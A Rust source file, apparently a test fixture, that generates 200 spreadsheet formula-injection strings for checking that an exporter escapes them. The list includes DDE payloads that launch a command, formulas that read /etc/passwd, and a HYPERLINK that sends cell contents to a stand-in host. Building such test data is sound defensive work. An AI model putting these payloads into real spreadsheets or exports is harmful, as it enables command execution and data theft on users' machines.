//! Texts that would be formulas, links or commands if a sheet took them for more than texts.

/// Two hundred of them.
pub(crate) fn payloads() -> Vec<String> {
    const BEFORE: [&str; 14] =
        ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u{a0}=", "'=", "\"=", "\";=", ",=", "＝"];
    const COMMANDS: [&str; 15] = [
        "1+1",
        "HYPERLINK(\"http://example.invalid/?\"&A1,\"Klikk\")",
        "SUM(A1:A9)",
        "cmd|' /C calc'!A0",
        "DDE(\"soffice\";\"/etc/passwd\";\"A1\")",
        "IMPORTXML(\"http://example.invalid\",\"//a\")",
        "WEBSERVICE(\"http://example.invalid\")",
        "'file:///etc/passwd'#$A.A1",
        "INDIRECT(\"Avdelinger!A2\")",
        "A1",
        "-2+3+cmd|' /C calc'!D2",
        "SUM(1;\"a\";\"b\"\"c\")",
        "{1;2}",
        "\u{1}1",
        "Ida Østbø",
    ];
    let mut payloads: Vec<String> =
        BEFORE.iter().flat_map(|before| COMMANDS.map(|command| format!("{before}{command}"))).collect();
    payloads.truncate(195);
    for other in
        ["<r><t>a</t></r>", "_x003D_1+1", "http://example.invalid", "mailto:a@example.invalid", "{=1+1}"]
    {
        payloads.push(other.to_owned());
    }
    payloads
}
